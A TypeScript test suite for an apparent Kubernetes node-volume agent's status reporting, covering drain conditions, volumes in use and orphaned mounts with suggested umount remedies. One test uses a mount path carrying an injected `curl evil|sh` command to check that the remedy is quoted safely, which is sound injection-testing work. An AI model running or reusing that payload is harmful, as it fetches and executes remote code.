import { expect } from "chai";
import { asVolumeName } from "../../../../src/agent/model/identities.ts";
import { type NodeStateInput, nodeStateOf } from "../../../../src/agent/status/node-state-status.ts";
import { waitingOf } from "../../../../src/agent/status/volume-summary.ts";
import { findCondition } from "../../../../src/api/conditions.ts";
import type { NodeVolumeState } from "../../../../src/api/types.gen.ts";
import { MountTable } from "../../../../src/host/mount-table/mount-table.ts";
import { entry } from "../../../lib/builders/mount-entries.ts";
import {
  mounted,
  planned,
  planWorld,
  prefix,
  record,
  staged,
  targetRecord,
  volume,
  type World,
  wanted,
} from "../../../lib/builders/plan-world.ts";

const agent = { version: "1", bootID: "boot-1", epoch: 1 };
const state: NodeVolumeState = { metadata: { name: "node" } } as NodeVolumeState;

function inputOf(world: World): NodeStateInput {
  const table = Array.isArray(world.mounts) ? new MountTable(world.mounts) : undefined;
  const settings = { stateDir: "/state", csiDir: "/csi", hostRoot: "/" };
  return { plan: planWorld(world), table, synced: true, ...settings, agent, now: 0 };
}

function seen(world: World, more: Partial<NodeStateInput> = {}) {
  return nodeStateOf(state, { ...inputOf(world), ...more });
}

const condition = (of: ReturnType<typeof seen>, type: "Drained") => findCondition(of.conditions, type)?.status;

describe("nodeStateOf", () => {
  it("says what the journal had lost", () => {
    const { conditions } = seen({ mounts: [] }, { damage: { lines: 2, copy: "/state/journal.damaged-7" } });
    const ready = findCondition(conditions, "Ready");
    expect(ready?.status).to.equal("True");
    expect(ready?.message).to.match(/^2 lines of the journal were damaged.*journal.damaged-7$/);
  });

  it("volumesInUse names what may be staged or mounted, sorted, before the intents were read as well as afterwards", () => {
    const { stage: _stage, ...nothing } = record({ name: asVolumeName("m"), targets: [] });
    const records = [record({ name: asVolumeName("z") }), record({ name: asVolumeName("a") }), nothing];
    const intents = [wanted({ name: "z" }), wanted({ name: "new" })];
    for (const mounts of [[], "unreadable"] as const) {
      const before = seen({ records, mounts }, { synced: false });
      const after = seen({ intents, records, mounts });
      // Unreadable: what is on no record may be mounted all the same, of a record that is there and of one that is
      // lost.
      const [recorded, granted] = mounts === "unreadable" ? [["m"], ["new"]] : [[], []];
      expect([before.volumesInUse, after.volumesInUse]).to.deep.equal([
        ["a", ...recorded, "z"],
        ["a", ...recorded, ...granted, "z"],
      ]);
      expect([before.inUse, after.inUse]).to.deep.equal([before.volumesInUse?.length, after.volumesInUse?.length]);
    }
  });

  it("what kubelet manages is in use, and keeps the node from being Drained no more than it is ours", () => {
    const observed = { plugin: "kubernetes.io/csi", volumeName: "pv-1", driver: "d", volumeHandle: "h" };
    const pods = [{ uid: "u", namespace: "a", name: "p", volume: "data", readOnly: false }];
    const source = { persistentVolumeClaim: { namespace: "a", claimName: "c" } };
    const intents = [wanted({ mode: "Observe", source, mounts: [], observed, pods })];
    const point = "/var/lib/kubelet/pods/u/volumes/kubernetes.io~csi/pv-1/mount";
    const kubeletDir = "/var/lib/kubelet";
    const settings = { allowedPrefixes: [prefix], stateDir: "/state", hostRoot: "/", csiDir: "/csi", kubeletDir };
    const found = seen({ intents, mounts: [entry({ id: 9, point })], input: { settings } });
    expect(found.volumesInUse).to.deep.equal([volume]);
    expect(condition(found, "Drained")).to.equal("True");
    expect(findCondition(found.conditions, "Drained")?.reason).to.equal("Released");
  });

  it("is Drained only when the intents were read and nothing is granted or in use", () => {
    expect(condition(seen({ mounts: [] }), "Drained")).to.equal("True");
    expect(condition(seen({ mounts: [] }, { synced: false }), "Drained")).to.equal("False");
    expect(condition(seen({ intents: [wanted()], mounts: [] }), "Drained"), "granted").to.equal("False");
    expect(condition(seen({ records: [record()], mounts: [staged] }), "Drained"), "in use").to.equal("False");
    expect(condition(seen({ intents: [wanted({ mode: "Observe" })], mounts: [] }), "Drained")).to.equal("True");
  });

  it("counts as waiting what the intents' own WAITING shows, the grant included", () => {
    const { grant: _grant, ...spec } = wanted().spec;
    const ungranted = { ...wanted(), spec };
    expect(seen({ intents: [ungranted], mounts: [] }).waiting).to.equal(1);
    expect(waitingOf(planned({ intents: [ungranted] }), undefined, { agent, now: 0 })?.reason).to.equal("NotGranted");
  });

  it("conditions carry the object's generation: kubectl wait passes over those of an earlier one", () => {
    const of = nodeStateOf({ ...state, metadata: { name: "node", generation: 3 } } as NodeVolumeState, {
      plan: planWorld({}),
      table: new MountTable([]),
      synced: true,
      stateDir: "/state",
      csiDir: "/csi",
      hostRoot: "/",
      agent,
      now: 0,
    });
    expect(of.conditions?.map(({ observedGeneration }) => observedGeneration)).to.satisfy((all: number[]) =>
      all.every((generation) => generation === 3),
    );
  });

  it("lists the mounts of an intent that vanished as orphans, by path", () => {
    const orphans = seen({ records: [record()], mounts: [staged, mounted] }).orphans ?? [];
    expect(orphans.map(({ path, reason }) => [path, reason])).to.deep.equal([[`${prefix}/a`, "UnexplainedRemoval"]]);
    expect(orphans[0]?.volume).to.equal(volume);
    const retained = seen({ records: [record({ retained: true })], mounts: [staged, mounted] }).orphans ?? [];
    expect(retained.map(({ reason }) => reason)).to.deep.equal(["Retained"]);
  });

  it("lists what is staged and has no target left, and what is on our staging path without any record", () => {
    const lost = entry({ id: 40, point: "/state/staging/lost" });
    const world = { records: [record({ targets: [] })], mounts: [staged, lost] };
    expect((seen(world).orphans ?? []).map(({ path }) => path)).to.deep.equal([
      "/state/staging/key",
      "/state/staging/lost",
    ]);
  });

  it("lists what a CSI driver may have staged, and mounts beneath the CSI directory that no record speaks of", () => {
    const csi = { driver: "a.example", volumeHandle: "v", directory: "/csi/k", needsUnstage: true };
    const of = { ...csi, block: false, shown: [], calls: {} };
    const stage = { kind: "csi" as const, path: "/csi/k/staging", ready: true, options: [], csi: of };
    const mounts = ["/csi/k/staging", "/csi/k/mounts/a", "/csi/lost/staging"].map((point, i) =>
      entry({ id: 40 + i, point }),
    );
    const orphans = seen({ records: [record({ type: "csi", stage, targets: [] })], mounts }).orphans ?? [];
    expect(orphans.map(({ path, kind }) => [path, kind])).to.deep.equal([
      ["/csi/k/staging", "Record"],
      ["/csi/lost/staging", "Staging"],
    ]);
    expect(orphans[0]?.remedy).to.include("a.example");
  });

  it("says of each orphan what it is, what tells so, since when, and what removes it", () => {
    const world = { records: [record()], mounts: [staged, mounted] };
    const [orphan] = seen(world).orphans ?? [];
    expect(orphan).to.deep.equal({
      path: `${prefix}/a`,
      kind: "Mount",
      volume,
      source: `${mounted.fsType} (${mounted.source})`,
      mountID: mounted.id,
      since: "1970-01-01T00:00:00Z",
      reason: "UnexplainedRemoval",
      message: `by the journal mounted for the intent ${volume} (uid uid-1), which vanished without being deleted`,
      remedy: `apply its set again; or umount ${prefix}/a`,
    });
    const before = { metadata: { name: "node" }, status: { orphans: [orphan] } } as unknown as NodeVolumeState;
    const later = nodeStateOf(before, { ...inputOf(world), now: 60_000 });
    expect(later.orphans, "and does not begin anew with each look").to.deep.equal([orphan]);
    const held = seen({ records: [record({ child: { pid: 7, startTime: 1 } })], mounts: [staged, mounted] }).orphans;
    expect(held?.[0]?.message).to.contain("process 7 of it has not ended");
  });

  it("lists a mount of our data that no record and no intent has, and not what others mount beneath a prefix", () => {
    const root = entry({ id: 1, parent: 1, point: "/", device: "8:1", fsType: "ext4", source: "/dev/sda1" });
    const ours = entry({ id: 41, point: `${prefix}/lost`, device: "8:1", root: "/state/data/key", fsType: "ext4" });
    const theirs = entry({ id: 42, point: `${prefix}/theirs`, device: "8:1", root: "/srv", fsType: "ext4" });
    const [orphan, ...more] = seen({ mounts: [root, ours, theirs] }).orphans ?? [];
    expect(more).to.deep.equal([]);
    expect(orphan).to.include({ path: `${prefix}/lost`, kind: "Mount", mountID: 41, remedy: `umount ${prefix}/lost` });
    expect(orphan?.source).to.contain("/state/data/key of it");
  });

  describe("in a container, which sees the node a second time beneath /host", () => {
    const disk = { device: "8:1", fsType: "ext4", source: "/dev/sda1" };
    const root = entry({ id: 1, parent: 1, point: "/", device: "0:40", fsType: "overlay" });
    const state = entry({ ...disk, id: 2, point: "/state", root: "/var/lib/nodevolume" });
    const host = entry({ ...disk, id: 3, point: "/host" });
    const data = { ...disk, root: "/var/lib/nodevolume/data/key" };
    const shown = (id: number, point: string, group: number, more = {}) => [
      entry({ ...data, id, point, shared: group, ...more }),
      entry({ ...data, id: id + 1, point: `/host${point}`, master: group, ...more }),
    ];
    const paths = (world: World, more: Partial<NodeStateInput> = {}) => {
      const base = Array.isArray(world.mounts) ? world.mounts : [];
      const seenBy = { ...world, mounts: [root, state, host, ...base] };
      return (seen(seenBy, { hostRoot: "/host", ...more }).orphans ?? []).map(({ path, remedy }) => [path, remedy]);
    };

    it("no orphan is a mount of ours on its own path, nor what the state directory is mounted on", () => {
      const own = shown(41, `${prefix}/a`, 15);
      const identity = { device: data.device, root: data.root };
      const targets = [targetRecord({ mountID: 41, peerGroup: 15, identity })];
      expect(paths({ records: [record({ targets })], intents: [wanted()], mounts: own })).to.deep.equal([]);
      expect(paths({ mounts: shown(51, "/state/mounts/b", 16) })).to.deep.equal([]);
    });

    it("an orphan is listed, too, beneath a prefix that is in the state directory, as that of config/default is", () => {
      const world = { mounts: shown(51, "/state/mounts/lost", 16) };
      const allowedPrefixes = ["/state/mounts"];
      expect(paths(world, { allowedPrefixes })).to.deep.equal([["/state/mounts/lost", "umount /state/mounts/lost"]]);
    });

    it("an orphan is listed once, by the path that it has on the node", () => {
      expect(paths({ mounts: shown(41, `${prefix}/lost`, 15) })).to.deep.equal([
        [`${prefix}/lost`, `umount ${prefix}/lost`],
      ]);
      const elsewhere = entry({ ...data, id: 60, point: "/host/srv/lost", master: 17 });
      expect(paths({ mounts: [elsewhere] })).to.deep.equal([["/srv/lost", "umount /srv/lost"]]);
    });

    it("what kubelet binds of it for a container's subPath is kubelet's", () => {
      const subPath = "/var/lib/kubelet/pods/uid-web/volume-subpaths/data/main/0";
      const mounts = shown(41, subPath, 15, { root: `${data.root}/part` });
      expect(paths({ mounts }, { kubeletDir: "/var/lib/kubelet" })).to.deep.equal([]);
      const lost = "/var/lib/kubelet/pods/uid-web/volumes/kubernetes.io~csi/data/mount";
      expect(paths({ mounts: shown(41, lost, 15) }, { kubeletDir: "/var/lib/kubelet" })).to.have.length(1);
    });
  });

  it("gives no command of somebody else's making, and no path that the schema refuses", () => {
    const root = entry({ id: 1, parent: 1, point: "/", device: "8:1", fsType: "ext4", source: "/dev/sda1" });
    const orphanOn = (point: string) => {
      const mount = entry({ id: 41, point, device: "8:1", root: "/state/data/key", fsType: "ext4" });
      return (seen({ mounts: [root, mount] }).orphans ?? [])[0];
    };
    expect(orphanOn(`${prefix}/x; curl evil|sh #`)?.remedy).to.equal(`umount '${prefix}/x; curl evil|sh #'`);
    const byID = "unmount it by the mountID, which /proc/self/mountinfo has";
    expect(orphanOn(`${prefix}/x\nREADY`)).to.include({ path: `${prefix}/x\\x0aREADY`, remedy: byID });
    const long = orphanOn(`${prefix}/${"a".repeat(1200)}`);
    expect(long?.path).to.have.lengthOf(1024);
    expect(long?.remedy).to.equal(byID);
  });

  it("says that it does not hear of its intents, and is not drained by what it does not know", () => {
    const sourceProblem = { reason: "IndexMissing" as const, message: "its NodeVolumeState has no spec.intents" };
    const of = seen({ mounts: [] }, { sourceProblem });
    expect(findCondition(of.conditions, "Ready")).to.include({ status: "False", ...sourceProblem });
    expect(findCondition(of.conditions, "Stalled")).to.include({ status: "True", reason: "IndexMissing" });
    expect([condition(of, "Drained"), condition(seen({ mounts: [] }), "Drained")]).to.deep.equal(["False", "True"]);
  });

  it("calls nothing an orphan before the intents were read", () => {
    expect(seen({ records: [record()], mounts: [staged, mounted] }, { synced: false }).orphans).to.deep.equal([]);
  });
});
